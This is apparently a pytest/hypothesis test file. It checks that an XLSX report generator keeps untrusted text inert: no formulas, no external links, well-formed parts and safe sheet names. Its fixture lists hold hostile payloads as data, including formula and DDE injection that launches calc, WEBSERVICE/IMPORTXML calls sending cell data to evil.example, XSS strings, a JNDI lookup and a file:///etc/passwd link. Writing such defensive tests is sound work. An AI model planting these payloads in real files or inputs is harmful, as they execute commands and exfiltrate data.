"""Texts of strangers in a workbook: nothing runs, nothing leads out, nothing breaks, and no text is lost."""

import re
from dataclasses import replace
from io import BytesIO
from itertools import cycle
from typing import Any
from zipfile import ZipFile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from charts.forms import Bar, Bars, Line, Mark, Trend
from metrics.units import Unit
from reports import xlsx
from reports.csv import FigureHead
from reports.sheets.texts import LONGEST_NAME, LONGEST_TEXT, SheetNames, one_line
from reports.taken import Figure, Taken
from tests.reports.xlsx_pages import page

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', "=Sheet1!$A$1", "='Contents'!$A$1",
    "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", "\uff1d1+1", "{=1+1}", "=", "==", "'=1+1", '"=1+1', " =1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '=WEBSERVICE("http://evil.example")', "%0A=1",
    'DDE("cmd","/C calc","x")',
)  # fmt: skip
LINKS = (
    "http://evil.example", "https://evil.example/a?b=c#d", "ftp://evil.example", "mailto:a@evil.example",
    "internal:Sheet1!A1", "external:c:\\temp\\x.xlsx", "file:///etc/passwd", "\\\\evil\\share", "javascript:alert(1)",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "</v></c><c><f>1+1</f>", "]]>", "<![CDATA[x]]>", "&lt;&amp;&#0;&#x1;", "<!-- x -->",
    '"><img src=x onerror=alert(1)>', "&evil;", "_x0041_", "_x0000_", "_x005F_x0008_", "${jndi:ldap://evil.example}",
)  # fmt: skip
SIGNS = (
    "\x00", "a\x00b", "\x01\x02\x1f\x7f\x80\x9f", "\x0b\x0c", "\ud800", "a\udfffb", "\ufffe\uffff", "\u2028\u2029",
    "\u202edlrow", "\u2066x\u2069", "\ufeff", "\u200b", "line\nbreak", "tab\there", "\r\n",
)  # fmt: skip
PEOPLE = (
    "مكتب الخدمة", "שירות", "👩‍👩‍👧‍👦", "🇪🇺", "👍🏽" * 40, "日本語のサービスデスク", "z̷̨̛a̷͌l̴̈g̶̊o̵", "Ünïcödé", "\U0001d56f\U0001d58a", "ﷺ", "İıſß",
)  # fmt: skip
NUMBERS = (
    "0001",
    "1e5",
    "1.0",
    "TRUE",
    "true",
    "31/12/2016",
    "NaN",
    "inf",
    "-0",
    "1,000",
    "50%",
    "#N/A",
    "#REF!",
)
NAMES = (
    "History", "history", "HISTORY ", "[]:*?/\\", "'quoted'", "'", "''", "Contents", "contents", "How computed", "A1",
    "R1C1", "Sheet1", "CON", "../../etc/passwd", " ", "", "a" * 31, "A" * 32, "a'!b", "x:y", "....",
)  # fmt: skip
LONG = ("a" * 10_000, "=" * 10_000, "👩" * 20_000, "ع" * 33_000, "<" * 40_000, "\x01" * 10_000)
SHORT = (*FORMULAS, *LINKS, *SCRIPTS, *SIGNS, *PEOPLE, *NUMBERS, *NAMES)
FIXED = (*SHORT, *LONG)
ANY_TEXT = st.text(st.characters(categories=None), max_size=60) | st.builds(
    str.__add__,
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", '"', "<", "{", "\uff1d", "://"]),
    st.text(max_size=30),
)


def hostile(*texts: str, at: int = 0) -> Figure:
    """A figure whose texts are those of strangers, one after the other and over again."""
    text = cycle(texts).__next__
    bars = Bars(
        text(), (Bar(text(), 0.5, text()), Bar("b", None, text())), Unit.SHARE, marks=(Mark(0.4, text()),)
    )
    line = Line(text(), (1.0, None), subject=True, said=("", text()))
    trend = Trend(text(), ("2016-01", "2016-02"), (line,), Unit.MINUTES, target=Mark(2.0, text()))
    head = FigureHead(
        *(text() for _ in range(6)), ((text(), text()),), text(), ((text(), text()),), sql=((text(), text()),)
    )
    names = pd.Index([text(), "value", "desk", text(), "desk"], dtype=object)
    rows = pd.DataFrame([[text(), 0.5, text(), text(), None]], columns=names, dtype=object)
    return Figure(
        text(),
        text(),
        (bars, trend)[at % 2],
        lambda: rows,
        lambda: head,
        text(),
        text(),
        (text(),),
        section=text(),
    )


def hostile_tile(*texts: str) -> Figure:
    return replace(hostile(*texts), form=None, title=texts[0], value=texts[-1] or "–", change=texts[-1])


def hostile_page(figures: list[Figure], name: str) -> Taken:
    told = dict.fromkeys(("sentence", "period", "filters", "source", "snapshot"), name)
    return page(figures, name, **told, comparability=(name,), notes=(name,))


def harmless(content: bytes) -> Any:
    """The workbook, once nothing in it runs or leads out and every part is well formed."""
    with ZipFile(BytesIO(content)) as package:
        assert package.testzip() is None
        for name in package.namelist():
            tree = etree.fromstring(package.read(name))
            if name.startswith("xl/worksheets/sheet"):
                assert not list(tree.iter("{*}f")), f"a formula in {name}"
                assert not list(tree.iter("{*}oleObject", "{*}ddeLink"))
                for link in tree.iter("{*}hyperlink"):
                    assert "location" in link.attrib
                    assert not [key for key in link.attrib if key.endswith("}id")], (
                        "a link out of the workbook"
                    )
            for relationship in tree.iter(
                "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
            ):
                assert relationship.get("TargetMode") != "External"
                assert relationship.get("Type").rsplit("/", 1)[-1] in KNOWN
    book = openpyxl.load_workbook(BytesIO(content))
    names = book.sheetnames
    assert len({name.casefold() for name in names}) == len(names)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert len(cell.value.encode("utf-16-le")) // 2 <= LONGEST_TEXT
    with ZipFile(BytesIO(content)) as package:
        references_lead_somewhere(package, names)
    return book


KNOWN = (
    "officeDocument", "core-properties", "extended-properties", "worksheet", "theme", "styles", "sharedStrings",
    "drawing", "chart", "table",
)  # fmt: skip
CELLS = re.compile(r"\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?")


def references_lead_somewhere(package: ZipFile, names: list[str]) -> None:
    """What a chart reads are cells of a sheet of this workbook, however it is called."""
    known = {f"'{name.replace(chr(39), chr(39) * 2)}'" for name in names} | set(names)
    for part in package.namelist():
        if part.startswith("xl/charts/"):
            for reference in etree.fromstring(package.read(part)).iter("{*}f"):
                sheet, _, cells = str(reference.text).rpartition("!")
                assert sheet in known
                assert CELLS.fullmatch(cells)


def batches(texts: tuple[str, ...], size: int) -> list[tuple[str, ...]]:
    return [texts[at : at + size] for at in range(0, len(texts), size)]


@pytest.mark.parametrize("texts", batches(SHORT, 16), ids=lambda texts: one_line(texts[0], 12))
def test_a_known_attack_stays_text_wherever_it_stands(texts: tuple[str, ...]) -> None:
    figures = [hostile_tile(texts[0]), *(hostile(text, at=at) for at, text in enumerate(texts))]
    book = harmless(xlsx.workbook([hostile_page(figures, texts[-1])]))
    assert len(book.sheetnames) == 3 + len(texts)
    said = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    for text in texts:
        assert not one_line(text) or {one_line(text), stored(one_line(text))} & said


def stored(text: str) -> str:
    """As it stands in the file, which openpyxl reads as it stands: an underscore before a code is a code itself."""
    return re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)


@settings(max_examples=30)
@given(texts=st.lists(ANY_TEXT, min_size=34, max_size=34), name=ANY_TEXT)
def test_a_thousand_texts_of_strangers_stay_texts(texts: list[str], name: str) -> None:
    figures = [hostile_tile(*texts), hostile(*texts), hostile(*reversed(texts), at=1)]
    harmless(xlsx.workbook([hostile_page(figures, name)]))


@pytest.mark.parametrize("text", FIXED, ids=lambda text: one_line(text, 12))
def test_one_figure_of_a_stranger_is_harmless(text: str) -> None:
    one = hostile(text)
    assert len(harmless(xlsx.sheet(hostile_page([one], text), one)).sheetnames) == 2


@settings(max_examples=300)
@given(titles=st.lists(ANY_TEXT | st.sampled_from(NAMES), max_size=12))
def test_names_of_sheets_are_ones_that_excel_takes_each_once(titles: list[str]) -> None:
    names = SheetNames()
    given_names = [names.unique(title) for title in titles]
    assert len({name.casefold() for name in given_names}) == len(titles)
    for name in given_names:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= LONGEST_NAME
        assert not set(name) & set("[]:*?/\\")
        assert name[0] != "'"
        assert name[-1] != "'"
        assert name.casefold() != "history"
        assert name == name.strip()


def test_two_figures_of_one_name_have_a_sheet_each() -> None:
    names = SheetNames(["Contents"])
    assert [names.unique(title) for title in ("Phone", "PHONE", "phone?", "contents", "History")] == [
        "Phone", "PHONE (2)", "phone (3)", "contents (2)", "History (2)",
    ]  # fmt: skip


def test_a_long_name_ends_with_dots_and_an_emoji_is_never_halved() -> None:
    names = SheetNames()
    assert names.unique("a" * 40) == "a" * 30 + "…"
    assert names.unique("a" * 40) == "a" * 26 + "… (2)"
    assert names.unique("👩" * 40) == "👩" * 15 + "…"


def test_a_text_loses_what_nobody_sees_and_no_more() -> None:
    assert one_line("a\x00b\tc\nd\ud800e") == "ab c de"
    assert one_line("مكتب 👩‍👩‍👧‍👦 =1") == "مكتب 👩‍👩‍👧‍👦 =1"
    assert one_line("_x005F_x0008_ _x0041_") == "_x005F _x0008_ _x0041_"
    assert one_line("x" * 40_000) == "x" * 32_766 + "…"
